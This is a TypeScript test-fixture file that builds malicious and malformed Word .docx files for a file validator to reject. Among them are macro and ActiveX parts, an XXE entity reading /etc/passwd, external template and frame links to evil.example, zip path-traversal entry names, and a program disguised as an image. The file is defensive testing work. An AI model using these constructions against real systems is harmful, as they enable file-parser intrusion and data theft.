import type { BadFile } from './bad-file.ts'
import { firstHalf } from './bad-file.ts'
import { buildDocx, contentTypes, documentXml, docxParts, relation, relations } from './docx.ts'
import { buildZip } from './zip.ts'

const program = Buffer.from('4d5a90000300000004000000ffff0000', 'hex')

/** A docx whose document is refused for a part it holds. */
function holding(name: string, content: string | Buffer = 'x'): () => Buffer {
  return () => buildDocx([{ name, content }])
}

function related(kind: string, mode?: 'External', target = 'http://evil.example/t.dotm'): () => Buffer {
  return () =>
    buildDocx([{ name: 'word/_rels/document.xml.rels', content: relations(relation(kind, target, mode)) }])
}

const unsafe: BadFile[] = [
  { name: 'docx: macros', kind: 'docx', fault: 'active', bytes: holding('word/vbaProject.bin') },
  {
    name: 'docx: macros under another name',
    kind: 'docx',
    fault: 'active',
    bytes: holding('word/theme.bin'),
  },
  {
    name: 'docx: an embedded program',
    kind: 'docx',
    fault: 'active',
    bytes: holding('word/embeddings/oleObject1.bin'),
  },
  {
    name: 'docx: an embedded workbook',
    kind: 'docx',
    fault: 'active',
    bytes: holding('word/embeddings/sheet1.xlsx'),
  },
  { name: 'docx: ActiveX', kind: 'docx', fault: 'active', bytes: holding('word/activeX/activeX1.xml') },
  { name: 'docx: a script within', kind: 'docx', fault: 'active', bytes: holding('word/media/run.js') },
  {
    name: 'docx: a program called a picture',
    kind: 'docx',
    fault: 'active',
    bytes: holding('word/media/image1.png', program),
  },
  {
    name: 'docx: a page of HTML',
    kind: 'docx',
    fault: 'active',
    bytes: holding('word/afchunk1.html', '<html>'),
  },
  {
    name: 'docx: a template from elsewhere',
    kind: 'docx',
    fault: 'active',
    bytes: related('attachedTemplate', 'External'),
  },
  {
    name: 'docx: a frame from elsewhere',
    kind: 'docx',
    fault: 'active',
    bytes: related('frame', 'External'),
  },
  {
    name: 'docx: an object from elsewhere',
    kind: 'docx',
    fault: 'active',
    bytes: related('oleObject', 'External'),
  },
  {
    name: 'docx: a chunk of another format',
    kind: 'docx',
    fault: 'active',
    bytes: related('aFChunk', undefined, 'a.xml'),
  },
  {
    name: 'docx: a template, its kind spelt in numbers',
    kind: 'docx',
    fault: 'active',
    bytes: related('attached&#84;emplate', 'External'),
  },
  {
    name: 'docx: relations in UTF-16',
    kind: 'docx',
    fault: 'damaged',
    bytes: holding(
      'word/_rels/document.xml.rels',
      Buffer.from(
        `\ufeff${relations(relation('attachedTemplate', 'http://evil.example', 'External'))}`,
        'utf16le',
      ),
    ),
  },
  {
    name: 'docx: entities',
    kind: 'docx',
    fault: 'active',
    bytes: holding(
      'word/document.xml',
      `<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a SYSTEM "file:///etc/passwd">]>${documentXml('&a;')}`,
    ),
  },
  {
    name: 'docm called docx',
    kind: 'docx',
    fault: 'active',
    bytes: holding(
      '[Content_Types].xml',
      contentTypes('application/vnd.ms-word.document.macroEnabled.main+xml'),
    ),
  },
]

const malformed: BadFile[] = [
  ...['../../../etc/cron.d/x', '/etc/passwd', 'word\\..\\..\\x.xml', 'C:/x.xml', 'word/../../x.xml'].map(
    (name) => ({
      name: `docx: an entry called ${name}`,
      kind: 'docx' as const,
      fault: 'damaged' as const,
      bytes: holding(name),
    }),
  ),
  {
    name: 'docx: two entries of one name',
    kind: 'docx',
    fault: 'damaged',
    bytes: () => buildZip([...docxParts(), { name: 'word/document.xml', content: documentXml('another') }]),
  },
  {
    name: 'docx: two names that differ in case',
    kind: 'docx',
    fault: 'damaged',
    bytes: holding('WORD/document.xml'),
  },
  {
    name: 'docx: a name that differs in its header',
    kind: 'docx',
    fault: 'damaged',
    bytes: () => buildDocx([{ name: 'word/a.xml', content: 'x', headerName: 'word/vbaProject.bin' }]),
  },
  {
    name: 'docx: an encrypted entry',
    kind: 'docx',
    fault: 'locked',
    bytes: () => buildDocx([{ name: 'word/document.xml', content: documentXml(), flags: 0x0801 }]),
  },
  {
    name: 'docx: without a document',
    kind: 'docx',
    fault: 'wrong kind',
    bytes: () => buildZip(docxParts().filter(({ name }) => name !== 'word/document.xml')),
  },
  {
    name: 'xlsx called docx',
    kind: 'docx',
    fault: 'wrong kind',
    bytes: () =>
      buildZip([
        {
          name: '[Content_Types].xml',
          content: contentTypes('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml'),
        },
        { name: 'word/document.xml', content: documentXml() },
      ]),
  },
  { name: 'docx: cut in half', kind: 'docx', fault: 'damaged', bytes: () => firstHalf(buildDocx()) },
  {
    name: 'docx: without its last byte',
    kind: 'docx',
    fault: 'damaged',
    bytes: () => buildDocx().subarray(0, -1),
  },
  {
    name: 'docx: bytes in front',
    kind: 'docx',
    fault: 'wrong kind',
    bytes: () => buildDocx([], { front: Buffer.from('#!/bin/sh\n'), adjusted: true }),
  },
  {
    name: 'docx: another zip in front',
    kind: 'docx',
    fault: 'damaged',
    bytes: () => buildDocx([], { front: buildZip([{ name: 'a.exe', content: program }]), adjusted: true }),
  },
  {
    name: 'docx: bytes behind',
    kind: 'docx',
    fault: 'damaged',
    bytes: () => buildDocx([], { behind: program }),
  },
  {
    name: 'docx: a comment that is a page',
    kind: 'docx',
    fault: 'damaged',
    bytes: () => buildDocx([], { comment: '<html><script>' }),
  },
  {
    name: 'docx: an unknown way of packing',
    kind: 'docx',
    fault: 'damaged',
    bytes: () => buildDocx([{ name: 'word/a.xml', content: 'x', method: 99 }]),
  },
  {
    name: 'docx: only its first bytes',
    kind: 'docx',
    fault: 'damaged',
    bytes: () => Buffer.from('504b0304', 'hex'),
  },
  {
    name: 'a zip called docx',
    kind: 'docx',
    fault: 'wrong kind',
    bytes: () => buildZip([{ name: 'a.txt', content: 'a' }]),
  },
  { name: 'an empty zip called docx', kind: 'docx', fault: 'wrong kind', bytes: () => buildZip([]) },
]

/** Documents of Word that run something, or are no ordinary zip. */
export const badDocx: readonly BadFile[] = [...unsafe, ...malformed]
